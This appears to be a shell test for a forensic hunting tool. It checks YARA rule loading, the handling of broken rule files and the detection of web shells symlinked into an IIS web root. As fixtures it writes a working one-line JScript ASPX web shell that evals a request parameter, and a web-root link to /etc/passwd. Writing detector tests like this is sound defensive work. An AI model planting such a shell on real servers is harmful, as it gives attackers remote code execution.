# exhunt hunt --rules: a responder's own YARA rules (written here, as a
# community set would be: several files, one that does not compile, one
# that uses Loki's externals, two files reusing a rule name) run over every
# file of the tree; a file that does not compile is named and skipped; the
# hits equal what `yara -r` reports with the same good files on the same
# tree; a folder with no usable rule is an error (exit 2). Also: a web
# shell linked into the web root from elsewhere is named with its target
# and read.
. "$(dirname "$0")/lib.sh"
command -v yara >/dev/null || fail "yara is not installed (tools/deps.sh installs it)"
tree="$TMP/tree"; rules="$TMP/rules"
mkdir -p "$tree/inetpub/wwwroot/app" "$tree/data" "$rules/sub"
printf 'hello MARKER_ONE world\n' > "$tree/data/a.txt"
printf 'MARKER_TWO\n' > "$tree/inetpub/wwwroot/app/page.aspx"
printf 'nothing here\n' > "$tree/data/b.bin"
printf 'MARKER_ONE and MARKER_TWO\n' > "$tree/data/both.log"
# Our own rules still name what they match when a responder adds theirs.
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["q"],"unsafe");%%>' > "$tree/inetpub/wwwroot/app/s.aspx"
cat > "$rules/one.yar" <<'YAR'
rule marker_one { meta: description = "the first marker" author = "test" strings: $a = "MARKER_ONE" condition: $a }
YAR
cat > "$rules/sub/two.yara" <<'YAR'
rule marker_two { meta: description = "the second marker" score = 70 strings: $a = "MARKER_TWO" condition: $a }
rule marker_one { strings: $a = "MARKER_ONE" condition: $a and filesize < 100 }
YAR
cat > "$rules/ext.yar" <<'YAR'
rule by_extension { condition: extension == ".aspx" and filename == "page.aspx" }
YAR
cat > "$rules/broken.yar" <<'YAR'
rule broken { strings: $a = "x" condition: $a and $undefined }
YAR
printf 'not a rule file\n' > "$rules/readme.txt"

set +e
"$EXHUNT" hunt "$tree" --rules "$rules" --format json -o "$TMP/r.json" --no-progress 2>"$TMP/err"
rc=$?
set -e
[ $rc = 1 ] || { cat "$TMP/err"; fail "hunt --rules exit $rc, want 1"; }
grep -q "broken.yar skipped" "$TMP/err" || fail "the broken rule file is not named: $(cat "$TMP/err")"
# yara over the same good files (its own namespaces are per file too).
for f in one.yar sub/two.yara; do
	yara -r "$rules/$f" "$tree" 2>/dev/null
done | awk -v t="$tree/" '{ sub(t, "", $2); print $1, $2 }' > "$TMP/yara-hits"
yara -d filename=page.aspx -d extension=.aspx -r "$rules/ext.yar" "$tree/inetpub/wwwroot/app/page.aspx" 2>/dev/null |
	awk -v t="$tree/" '{ sub(t, "", $2); print $1, $2 }' >> "$TMP/yara-hits"
python3 - "$TMP/r.json" "$TMP/yara-hits" "$rules" <<'PY' || fail "hits differ from yara -r"
import json, sys
r = json.load(open(sys.argv[1]))
got = sorted((f["detail"].split(";")[0].split(":")[-1], f["path"]) for f in r["findings"] if f["kind"] == "rule-match")
want = sorted(tuple(l.split()) for l in open(sys.argv[2]) if l.strip())
if got != want or not want:
    print("got ", got); print("want", want); sys.exit(1)
meta = [f["detail"] for f in r["findings"] if f["kind"] == "rule-match" and "marker_two" in f["detail"]]
if not any("score: 70" in d and "the second marker" in d for d in meta):
    print("meta missing", meta); sys.exit(1)
own = [f for f in r["findings"] if f["kind"] == "webshell" and f["path"].endswith("s.aspx")]
if not own or "YARA exh_" not in own[0]["detail"]:
    print("our own rules lost with --rules:", own); sys.exit(1)
notes = " ".join(r.get("notes", []))
if "broken.yar" not in notes:
    print("no note of the skipped file", notes); sys.exit(1)
PY

# Nothing usable: an error naming the input.
mkdir -p "$TMP/bad"; cp "$rules/broken.yar" "$TMP/bad/"
set +e
"$EXHUNT" hunt "$tree" --rules "$TMP/bad" --no-progress >/dev/null 2>"$TMP/err2"; rc=$?
"$EXHUNT" hunt "$tree" --rules "$TMP/missing" --no-progress >/dev/null 2>>"$TMP/err2"; rc2=$?
set -e
[ $rc = 2 ] && [ $rc2 = 2 ] || fail "unusable --rules: exits $rc $rc2, want 2"
grep -q "no rule file compiled" "$TMP/err2" || fail "no message for an unusable rule folder"
grep -q "missing" "$TMP/err2" || fail "no message naming a missing rule path"

# A link in the web root to a shell elsewhere in the evidence.
mkdir -p "$TMP/l/inetpub/wwwroot/aspnet_client" "$TMP/l/ProgramData/x"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["q"],"unsafe");%%>' > "$TMP/l/ProgramData/x/s.txt"
ln -s /ProgramData/x/s.txt "$TMP/l/inetpub/wwwroot/aspnet_client/discover.aspx"
ln -s /etc/passwd "$TMP/l/inetpub/wwwroot/aspnet_client/out.aspx"
set +e
"$EXHUNT" hunt "$TMP/l" --format json -o "$TMP/l.json" --no-progress 2>/dev/null
set -e
python3 - "$TMP/l.json" <<'PY' || fail "links in the web root"
import json, sys
r = json.load(open(sys.argv[1]))
links = {f["path"]: f for f in r["findings"] if f["kind"] == "link"}
shells = [f for f in r["findings"] if f["kind"] == "webshell"]
ok = ("inetpub/wwwroot/aspnet_client/discover.aspx" in links and
      "/ProgramData/x/s.txt" in links["inetpub/wwwroot/aspnet_client/discover.aspx"]["detail"] and
      "inetpub/wwwroot/aspnet_client/out.aspx" in links and
      any(f["path"] == "inetpub/wwwroot/aspnet_client/discover.aspx" and "[chopper]" in f["detail"] for f in shells))
if not ok:
    print(json.dumps(r["findings"], indent=1)); sys.exit(1)
PY
pass
